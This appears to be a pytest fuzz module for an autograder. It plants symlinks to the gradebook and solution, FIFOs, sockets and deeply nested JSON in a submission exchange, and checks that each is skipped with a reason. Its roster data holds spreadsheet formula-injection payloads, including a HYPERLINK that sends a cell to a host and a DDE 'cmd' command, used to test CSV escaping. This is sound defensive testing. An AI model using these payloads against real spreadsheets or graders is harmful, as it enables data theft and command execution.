"""A file-system and roster fuzz: one class handed in through a shared exchange, honest students beside every kind
of entry a student can leave there (links relative and absolute, to the course's solution, to the gradebook, to
``/dev/zero``, to folders, in loops; pipes, sockets, an unreadable file, a folder named ``.``-something, JSON nested
100,000 deep, a huge file, lone surrogates, a byte-order mark, nbformat 3, a timestamp that is no time) and a
roster of hostile names and e-mails; through ``nbgrader collect``, ``grade --gradebook``, nbgrader's API (what
Formgrader's pages call), ``similarity`` and ``nbgrader export``.

One class for the whole module (one collect, one grading run): every honest student is collected, graded and
recorded; each hostile entry costs its student alone, with a reason; nothing outside the student's own folder is
read, copied or written (files outside the exchange that links point to are watched with inotify: nothing opens
them); every CSV is safe in a spreadsheet.
"""

from __future__ import annotations

import csv
import ctypes
import os
import struct
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

from autograder.core import course
from autograder.core.settings import GRADED, INVALID, MISSING
from submission_factory import student_copy, unix_socket_at
from test_classroom import COURSE_ID, LESSON, _instructor, _nbgrader, _tests, nbgrader_api

pytestmark = [pytest.mark.slow, pytest.mark.skipif(sys.platform != "linux", reason="pipes, sockets and inotify: Linux")]

NAMED_AT = "2027-01-10 10:00:00.000000 UTC"   # the time in every inbound folder's name
HONEST = nbformat.writes(student_copy(LESSON)).encode("utf-8")
FULL = sum(points for _, points in _tests())
# Roster names and e-mails an LMS sync or `nbgrader db student import` could bring in (student id -> first, last, email).
ROSTER = {"ann": ('=HYPERLINK("http://127.0.0.1/?"&A1,"grades")', "Lee, Ann", "-2+3@example.org"),
          "0012": ("@SUM(1+1)", "O'Brien\r\n=1", "+ann@example.org"),
          "clutter": ("\t=cmd|' /C calc'!A0", "Smith", "\uff1d1+1@example.org")}


def _inbound(exchange: Path, student: str, stamp: str | None = NAMED_AT) -> Path:
    folder = exchange / COURSE_ID / "inbound" / f"{student}+{LESSON}+{NAMED_AT}+r1"
    folder.mkdir(parents=True)
    if stamp is not None:
        (folder / "timestamp.txt").write_text(stamp, encoding="utf-8")
    return folder


def _honest(folder: Path, raw: bytes = HONEST) -> Path:
    (folder / f"{LESSON}.ipynb").write_bytes(raw)
    return folder


def _deep(depth: int) -> bytes:
    return b'{"cells": [], "nbformat": 4, "metadata": ' + b'{"a":' * depth + b"1" + b"}" * depth + b"}"


def hand_in_the_exchange(exchange: Path, outside: Path, instructor: Path) -> None:
    """The exchange of a shared server after the students submitted (the module's docstring lists what they left)."""
    for name in ("ann", "0012"):
        _honest(_inbound(exchange, name))
    _inbound(exchange, "mallory").joinpath(f"{LESSON}.ipynb").symlink_to(course.solution_notebook(LESSON))
    relative = _inbound(exchange, "mallory-rel")
    relative.joinpath(f"{LESSON}.ipynb").symlink_to(os.path.relpath(outside / "secret.ipynb", relative))
    _inbound(exchange, "zero").joinpath(f"{LESSON}.ipynb").symlink_to("/dev/zero")
    os.mkfifo(_inbound(exchange, "fifo") / f"{LESSON}.ipynb")
    clutter = _honest(_inbound(exchange, "clutter", stamp=None))
    (clutter / "gradebook.db").symlink_to(instructor / "gradebook.db")
    (clutter / "data").symlink_to(outside / "folder")
    (clutter / "loop-a").symlink_to("loop-b")
    (clutter / "loop-b").symlink_to("loop-a")
    (clutter / "itself").symlink_to(".")
    (clutter / "timestamp.txt").symlink_to(outside / "secret.ipynb")
    (clutter / "big.bin").write_bytes(b"0" * 1_500_000)   # over the course's max_file_size below (1 MB)
    (clutter / "notes").mkdir()
    (clutter / "notes" / "plan.md").write_text("my plan\n", encoding="utf-8")
    os.mkfifo(clutter / "pipe")
    inbound = exchange / COURSE_ID / "inbound"
    (inbound / f"linked+{LESSON}+{NAMED_AT}+r1").symlink_to(outside / "folder")
    os.mkfifo(inbound / f"piped+{LESSON}+{NAMED_AT}+r1")
    hidden = inbound / f".sneaky+{LESSON}+{NAMED_AT}+r1"
    hidden.mkdir()
    _honest(hidden)
    (clutter / "locked.txt").write_text("mine\n", encoding="utf-8")
    (clutter / "locked.txt").chmod(0o000)   # unreadable, except to root
    _honest(_inbound(exchange, "deep"), _deep(100_000))
    # honest work an odd editor saved: a byte-order mark and a lone surrogate; an older Jupyter's format and a
    # timestamp.txt that is no time (each grading kernel costs seconds: two students carry the four oddities)
    _honest(_inbound(exchange, "bom"), b"\xef\xbb\xbf" + HONEST.replace(
        b'"cells": [', b'"cells": [{"cell_type": "markdown", "metadata": {}, "source": "I wrote \\ud83d here"},', 1))
    old = nbformat.writes(nbformat.convert(student_copy(LESSON), 3), version=3).encode()
    _honest(_inbound(exchange, "old", stamp="yesterday, honest"), old)


def place_in_submitted(submitted: Path, outside: Path) -> None:
    """Entries put straight into submitted/ (an instructor who grades a folder made by other means than collect)."""
    os.mkfifo(submitted / "pipe-folder")
    (submitted / "linked-folder").symlink_to(outside / "folder")
    for student in ("sock-nb", "dev-nb", "loop-nb", "huge"):
        (submitted / student / LESSON).mkdir(parents=True)
    unix_socket_at(submitted / "sock-nb" / LESSON / f"{LESSON}.ipynb")
    (submitted / "dev-nb" / LESSON / f"{LESSON}.ipynb").symlink_to("/dev/zero")
    (submitted / "loop-nb" / LESSON / f"{LESSON}.ipynb").symlink_to(f"{LESSON}.ipynb")
    with open(submitted / "huge" / LESSON / f"{LESSON}.ipynb", "wb") as f:
        f.truncate(65 * 2**20)   # sparse: costs no disk


# --- watching the files outside the exchange that links point to ---------------------------------------------

IN_ACCESS, IN_OPEN = 0x1, 0x20


class Watch:
    """inotify on some folders: any open or read of them, or of a file in them, is an event."""

    def __init__(self, folders: list[Path]):
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.fd = self.libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        assert self.fd >= 0, os.strerror(ctypes.get_errno())
        self.folders = {self.libc.inotify_add_watch(self.fd, str(f).encode(), IN_ACCESS | IN_OPEN): f for f in folders}
        assert all(wd >= 0 for wd in self.folders)

    def events(self) -> list[str]:
        found = []
        while True:
            try:
                data = os.read(self.fd, 65536)
            except BlockingIOError:
                return found
            at = 0
            while at < len(data):
                wd, mask, _, length = struct.unpack_from("iIII", data, at)
                name = data[at + 16: at + 16 + length].rstrip(b"\0").decode()
                found.append(f"{self.folders.get(wd)}/{name} ({'read' if mask & IN_ACCESS else 'opened'})")
                at += 16 + length

    def close(self) -> None:
        os.close(self.fd)


@pytest.fixture(scope="module")
def fuzzed_class(tmp_path_factory):
    root = tmp_path_factory.mktemp("exchange-fuzz")
    exchange, outside = root / "exchange", root / "outside"
    instructor = _instructor(root / "instructor", exchange)
    with open(instructor / "nbgrader_config.py", "a", encoding="utf-8") as f:
        f.write("c.CourseDirectory.max_file_size = 1000\n")   # kB: a 1.5 MB file in a submission is left out
    (outside / "folder").mkdir(parents=True)
    (outside / "secret.ipynb").write_bytes(nbformat.writes(student_copy(LESSON)).encode())
    (outside / "folder" / f"{LESSON}.ipynb").write_bytes(HONEST)
    hand_in_the_exchange(exchange, outside, instructor)
    solution = course.solution_notebook(LESSON).read_bytes()
    watch = Watch([outside, outside / "folder"])
    try:
        collected = _nbgrader(["collect", LESSON], instructor)
        submitted = instructor / "submitted"
        place_in_submitted(submitted, outside)
        env = dict(os.environ, JUPYTER_CONFIG_PATH="")
        graded = subprocess.run([sys.executable, "-m", "autograder", "grade", "submitted", "--out", "graded",
                                 "--assignment", LESSON, "--runner", "cpu", "--gradebook", "--course", "."],
                                cwd=instructor, env=env, capture_output=True, text=True, timeout=1200)
        similar = subprocess.run([sys.executable, "-m", "autograder", "similarity", LESSON, "--out", "similarity"],
                                 cwd=instructor, env=env, capture_output=True, text=True, timeout=600)
        from nbgrader.api import Gradebook

        with Gradebook(f"sqlite:///{instructor / 'gradebook.db'}", COURSE_ID) as gb:
            for sid, (first, last, email) in ROSTER.items():
                gb.update_or_create_student(sid, first_name=first, last_name=last, email=email)
        exported = _nbgrader(["export", "--to", "export.csv"], instructor)
        opened = watch.events()
    finally:
        watch.close()
    # What Formgrader's Manage Submissions and student pages call. (Not watched: nbgrader lists submitted/ itself, and
    # follows the link that place_in_submitted put there by hand; collect never puts one there.)
    with nbgrader_api(instructor) as api:
        listed = api.get_submissions(LESSON)
        pages = {row["student"]: api.get_submission(LESSON, row["student"]) for row in listed}
    yield {"instructor": instructor, "collected": collected, "graded": graded, "similar": similar, "exported": exported,
           "listed": listed, "pages": pages, "opened": opened, "solution": solution}


def _rows(path: Path) -> dict[str, dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return {row["student"]: row for row in csv.DictReader(f)}


def test_nothing_outside_a_students_folder_is_opened_copied_or_written(fuzzed_class):
    instructor = fuzzed_class["instructor"]
    assert fuzzed_class["opened"] == [], "a link was followed to a file outside the exchange"
    made = [p for folder in ("submitted", "autograded", "feedback", "graded") for p in (instructor / folder).rglob("*")]
    assert not [p for p in made if p.name == "gradebook.db"], "the gradebook was copied"
    assert not [p for p in made if p.is_file() and not p.is_symlink() and p.read_bytes() == fuzzed_class["solution"]]
    collected = [p for p in (instructor / "submitted").rglob("*")
                 if p.relative_to(instructor / "submitted").parts[0] not in ("pipe-folder", "linked-folder", "sock-nb",
                                                                            "dev-nb", "loop-nb", "huge")]
    odd = [str(p) for p in collected if p.is_symlink() or not (p.is_file() or p.is_dir())]
    assert not odd, f"collect copied entries that are no regular file or folder: {odd}"
    clutter = instructor / "submitted" / "clutter" / LESSON
    readable = ["locked.txt"] if os.geteuid() == 0 else []   # root reads a file whatever its mode
    assert sorted(p.name for p in clutter.iterdir()) == sorted([f"{LESSON}.ipynb", "notes", "timestamp.txt", *readable])


def test_collect_names_every_entry_it_leaves_and_collects_everyone_else(fuzzed_class):
    log, submitted = fuzzed_class["collected"], fuzzed_class["instructor"] / "submitted"
    assert "Traceback" not in log
    for name, words in (("linked+", "it is a symbolic link, not a folder"), ("piped+", "it is a named pipe (FIFO), not a folder"),
                        (".sneaky+", ".sneaky is not a student id")):
        assert any(name in line and words in line and "Not collected" in line for line in log.splitlines()), (name, log[-3000:])
    for student, entry, kind in (("mallory", f"{LESSON}.ipynb", "a symbolic link"), ("zero", f"{LESSON}.ipynb", "a symbolic link"),
                                 ("fifo", f"{LESSON}.ipynb", "a named pipe (FIFO)"), ("clutter", "gradebook.db", "a symbolic link"),
                                 ("clutter", "data", "a symbolic link"), ("clutter", "loop-a", "a symbolic link"),
                                 ("clutter", "itself", "a symbolic link"), ("clutter", "pipe", "a named pipe (FIFO)"),
                                 ("clutter", "big.bin", "a file of 1 MB, over the limit")):
        assert any(f"Left out of {student}'s submission: {entry} is {kind}" in line for line in log.splitlines()), (student, entry)
    assert f"mallory's submission has no {LESSON}.ipynb that is a regular file" in log
    if os.geteuid() != 0:   # root reads a file whatever its mode
        assert "Left out of clutter's submission: locked.txt is a file the grader may not read" in log
    expected = {"ann", "0012", "mallory", "mallory-rel", "zero", "fifo", "clutter", "deep", "bom", "old"}
    assert expected <= {p.name for p in submitted.iterdir()}, "every student with a readable folder is collected"
    assert not {"linked", "piped", ".sneaky"} & {p.name for p in submitted.iterdir()}


def test_a_timestamp_that_is_no_time_is_repaired_at_collect_and_the_students_file_kept(fuzzed_class):
    log, submitted = fuzzed_class["collected"], fuzzed_class["instructor"] / "submitted"
    old = submitted / "old" / LESSON
    assert (old / "timestamp.txt").read_text(encoding="utf-8") == NAMED_AT
    assert (old / "timestamp.txt.not-a-time").read_text(encoding="utf-8") == "yesterday, honest"
    assert "old's timestamp.txt is not a time: recorded as submitted at " + NAMED_AT in log
    assert (submitted / "clutter" / LESSON / "timestamp.txt").read_text(encoding="utf-8") == NAMED_AT, \
        "a linked timestamp is never followed: the time in the folder's name stands in"
    # Formgrader's Manage Submissions (nbgrader's API) answers for the whole assignment
    assert {row["student"] for row in fuzzed_class["listed"]} >= {"ann", "0012", "old", "clutter"}
    assert all(page is not None for page in fuzzed_class["pages"].values())


def test_every_honest_student_is_graded_and_recorded_and_each_entry_costs_its_student_alone(fuzzed_class):
    done, instructor = fuzzed_class["graded"], fuzzed_class["instructor"]
    assert done.returncode in (0, 3) and "Traceback" not in done.stdout + done.stderr, done.stdout[-3000:] + done.stderr[-3000:]
    rows = _rows(instructor / "graded" / "grades.csv")
    full = ["ann", "0012", "clutter", "bom", "old"]
    for student in full:
        assert rows[student]["status"] == GRADED and float(rows[student]["score"]) == FULL, (student, rows[student])
    assert not rows["ann"]["flags"] and not rows["0012"]["flags"] and not rows["clutter"]["flags"]
    assert rows["bom"]["flags"] == "1 text(s) holding lone surrogates (characters no file can store) repaired with U+FFFD"
    assert rows["old"]["flags"] == "upgraded from nbformat 3 (an older Jupyter's format) to nbformat 4", \
        "the timestamp was repaired at collect: grading finds a time"
    expected = {"mallory": (MISSING, "no 00_setup.ipynb"), "mallory-rel": (MISSING, "no 00_setup.ipynb"),
                "zero": (MISSING, "no 00_setup.ipynb"), "fifo": (MISSING, "no 00_setup.ipynb"),
                "deep": (INVALID, "not a readable notebook: its JSON is nested more than 64 levels deep"),
                "huge": (INVALID, "over the limit of 64 MB"), "pipe-folder": (INVALID, "pipe-folder is a named pipe (FIFO), not a folder"),
                "linked-folder": (INVALID, "linked-folder is a symbolic link, not a folder"),
                "sock-nb": (INVALID, "is a socket, not a notebook"), "dev-nb": (INVALID, "is a symbolic link, not a notebook"),
                "loop-nb": (INVALID, "is a symbolic link, not a notebook")}
    for student, (status, words) in expected.items():
        assert rows[student]["status"] == status and words in rows[student]["reason"], (student, rows[student])
        assert float(rows[student]["score"]) == 0
    recorded = {row["student"] for row in fuzzed_class["listed"] if row["autograded"]}
    assert set(full) <= recorded, "every honest student is in the gradebook"
    assert recorded == {s for s, r in rows.items() if r["status"] != "not recorded"}


def test_similarity_compares_the_class_and_lists_each_unreadable_entry(fuzzed_class):
    done, instructor = fuzzed_class["similar"], fuzzed_class["instructor"]
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stdout[-2000:] + done.stderr[-2000:]
    page = (instructor / "similarity" / f"{LESSON}.html").read_text(encoding="utf-8")
    for words in ("nested more than 64 levels deep", "over the limit of 64 MB", "a named pipe (FIFO), not a folder",
                  "a socket, not a notebook"):
        assert words in page, words


def test_every_csv_keeps_ids_as_quoted_text_and_runs_no_formula(fuzzed_class):
    instructor = fuzzed_class["instructor"]
    files = [instructor / "export.csv", instructor / "graded" / "grades.csv", instructor / "graded" / "cells.csv",
             *sorted((instructor / "similarity").glob("*.csv"))]
    for path in files:
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                assert not any(field.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")) for field in row), (path.name, row)
    raw = (instructor / "export.csv").read_bytes().decode("utf-8")
    assert '"0012"' in raw and '"Lee, Ann"' in raw, "ids and names are quoted text; a comma stays in its column"
    with open(instructor / "export.csv", newline="", encoding="utf-8") as f:
        exported = {row["student_id"]: row for row in csv.DictReader(f)}
    assert exported["ann"]["first_name"].startswith("'=HYPERLINK") and exported["ann"]["email"] == "'-2+3@example.org"
    assert exported["0012"]["last_name"] == "O'Brien\r\n=1" and exported["0012"]["email"] == "'+ann@example.org"
    assert exported["clutter"]["first_name"].startswith("'\t") and exported["clutter"]["email"].startswith("'\uff1d")
    assert float(exported["ann"]["raw_score"]) == FULL and float(exported["0012"]["raw_score"]) == FULL
    assert all(len(row) == 11 for row in exported.values())
    assert "Traceback" not in fuzzed_class["exported"]
